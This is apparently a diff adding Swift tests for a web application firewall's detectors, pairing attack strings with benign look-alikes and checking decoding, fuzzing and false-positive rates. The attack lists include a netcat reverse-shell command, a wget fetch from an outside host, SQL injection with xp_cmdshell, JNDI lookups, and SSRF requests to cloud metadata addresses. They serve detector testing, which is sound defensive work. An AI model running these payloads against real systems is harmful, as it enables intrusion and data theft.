@@ -1,0 +1,204 @@
+import Foundation
+import HTTPTypes
+import PropertyBased
+import RampartShield
+import Testing
+
+/// Each detector against attack strings and benign look-alikes we wrote ourselves.
+@Suite struct DetectionTests {
+    func findings(_ text: String, _ detector: some ThreatDetector, at location: InputLocation = InputLocation(.query, "q")) -> [Finding] {
+        var found: [Finding] = []
+        detector.inspect(InspectedValue(text, at: location), into: &found)
+        return found
+    }
+
+    func check(_ detector: some ThreatDetector, attacks: [String], benign: [String], sourceLocation: SourceLocation = #_sourceLocation) {
+        for text in attacks {
+            #expect(!findings(text, detector).isEmpty, "missed: \(text)", sourceLocation: sourceLocation)
+        }
+        for text in benign {
+            #expect(findings(text, detector).isEmpty, "false positive: \(text) -> \(findings(text, detector).map(\.rule))", sourceLocation: sourceLocation)
+        }
+    }
+
+    @Test func sqlInjection() {
+        check(SQLInjectionDetector(), attacks: [
+            "1 union all select password from accounts", "x' or 'a'='a", "admin'--", "7; drop table pupils;", "1) or (2=2",
+            "' and sleep(5)#", "1 and extractvalue(1, concat(0x7e, version()))", "x\" or 1=1 /*", "select * from information_schema.tables",
+            "-1 UNION/**/SELECT 1,2", "1/*!50000union*/ select 1", "waitfor delay '0:0:5'", "'; exec master..xp_cmdshell 'dir'--", "char(",
+        ], benign: [
+            "select the best union plan", "O'Brien's quiz", "2 < 3 and 3 > 2", "true or false", "1 and 2 and 3", "what does drop table do?",
+            "select all that apply", "load data from spreadsheet", "rock and roll", "x + 1 = 1 + x", "sin(x) + cos(x)", "from A to Z",
+        ])
+        #expect(findings("$ne", SQLInjectionDetector(), at: InputLocation(.json, "$.password.$ne", isName: true)).first?.rule == "sqli.nosql-operator.ne")
+    }
+
+    @Test func crossSiteScripting() {
+        check(XSSDetector(), attacks: [
+            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "<a href=\"java\tscript:alert(1)\">x</a>",
+            "<svg/onload=alert(1)>", "<iframe src=//example.org>", "javascript:alert(document.domain)", "document.cookie", "self['alert'](1)",
+            "<body onpageshow=x()>", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+        ], benign: [
+            "<b>bold</b> text", "a < b > c", "use the <em> tag", "I love JavaScript", "x => x * 2", "on=1", "online: yes", "see the script",
+        ])
+    }
+
+    @Test func pathTraversal() {
+        check(PathTraversalDetector(), attacks: ["../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fboot.ini", "/etc/shadow", "....//....//x"],
+              benign: ["chapter 3.2", "path/to/file", "etc. and so on"])
+        // One climb out of a directory is worth noting, not refusing alone.
+        #expect(findings("../images/cat.png", PathTraversalDetector()).map(\.severity) == [.error])
+        var found: [Finding] = []
+        PathTraversalDetector().inspect(InspectedValue("/.git/config", at: InputLocation(.path)), into: &found)
+        PathTraversalDetector().inspect(InspectedValue("/backup.sql", at: InputLocation(.path)), into: &found)
+        PathTraversalDetector().inspect(InspectedValue("/.well-known/security.txt", at: InputLocation(.path)), into: &found)
+        #expect(found.map(\.rule).contains("lfi.hidden-file"))
+        #expect(found.map(\.rule).contains("lfi.restricted-extension"))
+        #expect(!found.contains { $0.rule == "lfi.hidden-file" && $0.location.part == .path && found.count > 3 })
+    }
+
+    @Test func commandInjection() {
+        check(CommandInjectionDetector(), attacks: [
+            "; cat /etc/hosts", "x | nc -e /bin/sh 10.0.0.1 4444", "$(whoami)", "`id`", "a && wget http://example.org/x", "{cat,/etc/hosts}",
+            "c$@at /etc/hosts", "x;ls${IFS}-la", "cmd /c dir", "for %a in (a b) do echo %a", "if /i \"%x%\"==\"y\" echo z", "cat /etc/hosts",
+        ], benign: [
+            "cat videos", "python tutorial for beginners", "Tom & Jerry", "news & time", "copy & paste tips", "find my quizzes",
+            "I like cats; time flies", "ping pong", "bash scripting", "if you want to do it",
+        ])
+    }
+
+    @Test func remoteInclusionAndSSRF() {
+        check(RemoteInclusionDetector(), attacks: [
+            "http://127.0.0.1/admin", "http://169.254.169.254/latest/meta-data/", "http://2130706433/", "http://0x7f.1/", "http://[::1]:8080/",
+            "file:///etc/passwd", "gopher://example.org/_x", "http://metadata.google.internal/", "http://localhost:6379/", "http://10.0.0.5/",
+            "http://user@example.org/", "host.docker.internal/", "data:text/plain;base64,SGVsbG8=",
+        ], benign: ["https://www.nrk.no/nyheter/", "https://en.wikipedia.org/wiki/Fjord", "data:image/png;base64,iVBORw0KGgo=", "mailto:ola@example.no", "10:30 today"])
+    }
+
+    @Test func templateAndCodeInjection() {
+        check(TemplateInjectionDetector(), attacks: ["${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://x/a}", "${${env:NOPE:-j}ndi:ldap://x}", "{{7*7}}",
+                                                     "#{T(java.lang.Runtime).getRuntime()}", "<%= system('id') %>", "{{config.items()}}"],
+              benign: ["Hello {{name}}", "costs $5", "#hashtag", "{ a: 1 }", "50% of 80"])
+        check(PHPInjectionDetector(), attacks: ["<?php system('id'); ?>", "$_GET['x']", "php://filter/resource=x", "O:8:\"stdClass\":0:{}", "(system)('ls')", "base64_decode ('eA==')"],
+              benign: ["a copy (2nd edition)", "the system (as designed)", "$USD (dollars)", "price: $5"])
+        check(JavaInjectionDetector(), attacks: ["java.lang.Runtime", "new ProcessBuilder(cmd)", "class.module.classLoader.URLs[0]", "rO0ABXNyABFqYXZh"],
+              benign: ["java interview questions", "javascript basics", "processing builders"])
+        check(JavaScriptInjectionDetector(), attacks: ["require('child_process').exec('id')", "{\"__proto__\": {}}", "while(true){}", "x.constructor.constructor('return 1')()", "().__class__.__mro__"],
+              benign: ["while we wait", "the constructor of the house", "process for applying"])
+    }
+
+    @Test func protocolAttacksAndSessionFixation() {
+        check(ProtocolAttackDetector(), attacks: ["x\r\nSet-Cookie: a=b", "a\nGET /admin HTTP/1.1", "x\r\nHTTP/1.1 200 OK", "*)(uid=*", "admin)(|(password=*)"],
+              benign: ["(see above) (and below)", "line one\nline two", "a (b) c"])
+        let inspector = ThreatInspector(WAFConfiguration())
+        var planted = HTTPRequest(method: .get, scheme: "http", authority: "quiz.example.no", path: "/login?jsessionid=ABC123")
+        planted.headerFields[.referer] = "https://elsewhere.example/"
+        #expect(inspector.inspect(planted, body: nil).findings.contains { $0.kind == .sessionFixation }, "\(inspector.inspect(planted, body: nil).findings)")
+        planted.headerFields[.referer] = "https://quiz.example.no/start"
+        #expect(!inspector.inspect(planted, body: nil).findings.contains { $0.kind == .sessionFixation })
+    }
+
+    @Test func scannersByUserAgent() {
+        var found: [Finding] = []
+        ScannerDetector().inspect(InspectedValue("sqlmap/1.8#stable (https://sqlmap.org)", at: InputLocation(.header, "user-agent")), into: &found)
+        ScannerDetector().inspect(InspectedValue("Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0", at: InputLocation(.header, "user-agent")), into: &found)
+        #expect(found.map(\.rule) == ["scanner.agent.sqlmap"])
+    }
+
+    @Test func valuesComeFromEveryPartOfTheRequest() {
+        let inspector = ThreatInspector(WAFConfiguration())
+        var request = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/api/q?page=1")
+        request.headerFields[.contentType] = "application/json"
+        request.headerFields[.cookie] = "theme=dark; pref=%3Cscript%3Ealert(1)%3C/script%3E"
+        let body = Array(#"{"profile": {"bio": "hello", "links": ["ok", "' or 'x'='x"]}, "select": "all"}"#.utf8)
+        let report = inspector.inspect(request, body: body)
+        let locations = Set(report.findings.map(\.location.description))
+        #expect(locations == ["json:$.profile.links[1]", "cookie:pref"])
+        #expect(report.score == 10)
+        // Excluded locations are not inspected; globs match list indexes.
+        let excluded = inspector.inspect(request, body: body, exclusions: ExclusionList(["json:$.profile.links[*]", "cookie:*"]))
+        #expect(excluded.findings.isEmpty)
+        // Multipart field values and file names; form fields.
+        var upload = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/upload")
+        upload.headerFields[.contentType] = "multipart/form-data; boundary=XyZ"
+        let multipart = "--XyZ\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n<svg onload=alert(1)>\r\n--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\nContent-Type: image/png\r\n\r\n\u{1}\u{2}\r\n--XyZ--\r\n"
+        #expect(Set(inspector.inspect(upload, body: Array(multipart.utf8)).findings.map(\.location.description)) == ["multipart:note", "multipart:f.filename"])
+    }
+
+    @Test func base64IsLookedInto() {
+        let inspector = ThreatInspector(WAFConfiguration())
+        let encoded = Data("java.lang.Runtime.getRuntime".utf8).base64EncodedString()
+        let request = HTTPRequest(method: .get, scheme: "http", authority: "x", path: "/x?data=\(encoded.replacingOccurrences(of: "=", with: "%3D"))")
+        #expect(inspector.inspect(request, body: nil).findings.contains { $0.kind == .javaInjection })
+    }
+
+    @Test func normalizationDecodesLayersAndNeverGrows() async {
+        #expect(String(decoding: Normalizer.normalize("%253Cscript%253E"), as: UTF8.self) == "<script>")
+        #expect(String(decoding: Normalizer.normalize("&#x3C;&lt;%u003c\\x3c\\u003c"), as: UTF8.self) == "<<<<<")
+        #expect(String(decoding: Normalizer.normalize("%c0%ae%c0%ae/ＳＥＬＥＣＴ"), as: UTF8.self) == "../select")
+        // Property: decoding never lengthens the input, and a value whose encodings are no
+        // deeper than the bound is a fixed point after one normalization.
+        await propertyCheck(input: Gen.uint8(in: 32...126).array(of: 0...40)) { bytes in
+            let once = Normalizer.normalize(bytes)
+            #expect(once.count <= bytes.count)
+            var encoded = once
+            encoded = Array(encoded.map { String(format: "%%%02X", $0) }.joined().utf8)
+            #expect(Normalizer.normalize(encoded).count <= encoded.count)
+            #expect(Normalizer.normalize(once) == once || once.contains(UInt8(ascii: "%")) || once.contains(UInt8(ascii: "&")) || once.contains(UInt8(ascii: "\\")))
+        }
+    }
+
+    @Test func tokenizersSurviveAdversarialInput() async {
+        // Fuzz: random bytes through every detector; no crash, and the work is bounded (the
+        // whole run is a few thousand inputs of up to 2 KiB).
+        let inspector = ThreatInspector(WAFConfiguration())
+        await propertyCheck(input: Gen.uint8().array(of: 0...2048)) { bytes in
+            let text = String(decoding: bytes, as: UTF8.self)
+            var request = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/x")
+            request.headerFields[.contentType] = "application/json"
+            _ = inspector.inspect(request, body: bytes)
+            for detector in ThreatInspector.allDetectors() {
+                var found: [Finding] = []
+                detector.inspect(InspectedValue(text, at: InputLocation(.body)), into: &found)
+            }
+        }
+        // Deep nesting is refused by the JSON reader rather than recursed into.
+        let deep = String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000)
+        var request = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/x")
+        request.headerFields[.contentType] = "application/json"
+        _ = inspector.inspect(request, body: Array(deep.utf8))
+        _ = inspector.inspect(request, body: Array(String(repeating: "'or(", count: 20_000).utf8))
+    }
+
+    @Test func configurationIsValidated() {
+        let issues = WAFConfiguration(threshold: 0, disabled: ["sqli"], exclude: ["q"]).validate(at: "shield.waf")
+        #expect(issues.map(\.path) == ["shield.waf.threshold", "shield.waf.disabled[0]", "shield.waf.exclude[0]"])
+    }
+}
+
+/// Our benign corpus (Tests/Corpora/benign.jsonl, written by scripts/make-benign-corpus.py)
+/// with the exclusions of benchmarks/waf/rampart.yml: at most 1% blocked.
+@Test func benignCorpusIsRarelyBlocked() throws {
+    let inspector = ThreatInspector(WAFConfiguration())
+    let url = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("../Corpora/benign.jsonl")
+    let text = try String(contentsOf: url, encoding: .utf8)
+    var total = 0
+    var blocked: [String] = []
+    for line in text.split(separator: "\n") {
+        let record = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
+        let uri = try #require(record["uri"] as? String)
+        var request = HTTPRequest(method: .init(try #require(record["method"] as? String))!, scheme: "http", authority: "quiz.example.no", path: uri)
+        for (name, value) in try #require(record["headers"] as? [String: String]) { request.headerFields[HTTPField.Name(name)!] = value }
+        let exclusions: [String] = switch uri {
+        case let u where u.hasPrefix("/api/questions"): ["json:$.title", "json:$.body", "json:$.explanation", "json:$.answers[*].text", "json:$.code"]
+        case let u where u.hasPrefix("/api/quizzes"): ["json:$.questions[*].text"]
+        case let u where u.hasPrefix("/api/forum"): ["json:$.content", "form:content"]
+        default: []
+        }
+        let report = inspector.inspect(request, body: (record["body"] as? String).map { Array($0.utf8) }, exclusions: ExclusionList(exclusions))
+        total += 1
+        if report.score >= 5 { blocked.append("\(record["id"]!): \(report.findings.map(\.rule))") }
+    }
+    #expect(total >= 500)
+    #expect(blocked.count * 100 <= total, "\(blocked)")
+}
